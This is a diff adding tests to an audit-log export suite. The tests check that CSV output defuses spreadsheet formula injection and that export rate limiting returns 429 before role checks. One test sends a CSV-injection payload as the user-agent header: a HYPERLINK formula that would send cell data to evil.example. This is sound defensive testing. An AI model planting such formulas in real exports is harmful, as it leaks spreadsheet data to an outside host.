@@ -176,3 +176,47 @@ describe('formats', () => {
     for (const row of await eventsOf(team.teamId)) expect(JSON.stringify(row)).not.toMatch(/kp[cs]?_[0-9A-Za-z]{36}|kpinv_/);
   });
 });
+
+describe('hostile text and limits', () => {
+  it('CSV: a cell a spreadsheet would run as a formula (here the client-chosen user agent) starts with an apostrophe', async () => {
+    const victim = await addUser(server, team.teamId);
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const r = await gql(
+      server.url,
+      Report,
+      { text: victim.key, location: 'formula test' },
+      { key: team.apiKey, headers: { 'user-agent': evil } },
+    );
+    expect(r.errors).toBeUndefined();
+    const [, ...rows] = parseCsv(await (await get(`${everything()}&format=csv`, team.apiKey)).text());
+    const row = rows.find((cells) => cells[1] === 'exposure.reported' && cells[7]!.includes('formula test'))!;
+    expect(row[9]).toBe(`'${evil}`);
+    // NDJSON keeps the text exact.
+    const lines = (await (await get(everything(), team.apiKey)).text()).trim().split('\n');
+    const event = lines
+      .map((l) => JSON.parse(l) as { action: string; summary: string; userAgent: string | null })
+      .find((e) => e.summary.includes('formula test'))!;
+    expect(event.userAgent).toBe(evil);
+  });
+});
+
+describe('the rate limit of the key counts an export as one request', () => {
+  const limited = useTestServer({ RATE_LIMIT_PER_MINUTE: '2' });
+  it('X-RateLimit-* on the answer; past the limit 429 with Retry-After, before the role check', async () => {
+    const url = `${limited.url.replace(/\/graphql$/, '/audit/export')}?${everything()}`;
+    const admin = await addTeam(limited);
+    const first = await fetch(url, { headers: { 'x-api-key': admin.apiKey } });
+    expect(first.status).toBe(200);
+    expect(first.headers.get('x-ratelimit-limit')).toBe('2');
+    expect(first.headers.get('x-ratelimit-remaining')).toBe('1');
+    await first.text();
+    expect((await fetch(url, { headers: { 'x-api-key': admin.apiKey } })).status).toBe(200);
+    const refused = await fetch(url, { headers: { 'x-api-key': admin.apiKey } });
+    expect(refused.status).toBe(429);
+    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
+    // A member past the limit is refused 429, not 403 (SPEC §4: rate limit before role).
+    const member = await addUser(limited, admin.teamId);
+    for (let i = 0; i < 2; i += 1) expect((await fetch(url, { headers: { 'x-api-key': member.key } })).status).toBe(403);
+    expect((await fetch(url, { headers: { 'x-api-key': member.key } })).status).toBe(429);
+  });
+});
